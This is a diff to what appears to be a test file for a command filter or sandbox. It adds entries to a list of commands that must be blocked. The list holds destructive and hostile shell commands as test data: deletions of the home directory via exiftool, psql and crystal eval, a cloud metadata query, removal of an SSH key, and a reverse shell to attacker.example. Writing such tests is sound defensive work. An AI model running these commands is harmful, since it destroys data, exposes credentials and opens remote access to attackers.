@@ -11,6 +11,10 @@ stopped("ways out of editors, pagers and addresses", [
   "exiftool -if 'system(\"rm -rf ~\")' a.jpg",
   "curl http://[fd00:ec2::254]/latest/meta-data/",
   "unlink ~/.ssh/id_rsa",
+  "psql -o '|rm -rf ~' -c 'select 1'",
+  "psql -o'|rm -rf ~'",
+  'crystal eval \'require "socket";c=TCPSocket.new("attacker.example",4444);Process.new("sh",input:c,output:c)\'',
+  "crystal eval '`rm -rf /home/dev`'",
 ]);
 
 describe("ordinary use of the same", () => {
